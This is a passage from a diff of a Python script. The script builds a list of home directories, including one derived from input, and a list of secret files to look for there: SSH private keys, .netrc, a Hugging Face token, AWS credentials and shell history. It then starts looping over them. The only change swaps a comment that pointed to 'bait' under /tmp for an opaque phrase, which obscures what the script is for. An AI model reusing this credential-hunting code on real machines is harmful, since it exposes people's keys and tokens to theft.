@@ -10,7 +10,7 @@ import json
 import os
 
 home = json.loads(input())["home"]
-homes = [f"/.{home}", "/root", "/home/user", os.path.expanduser("~")]  # the bait is below /tmp, by its own name
+homes = [f"/.{home}", "/root", "/home/user", os.path.expanduser("~")]  # `/.`: no place is led elsewhere
 names = [".ssh/id_rsa", ".netrc", ".cache/huggingface/token", ".aws/credentials", ".bash_history"]
 tried = 0
 for folder in homes:
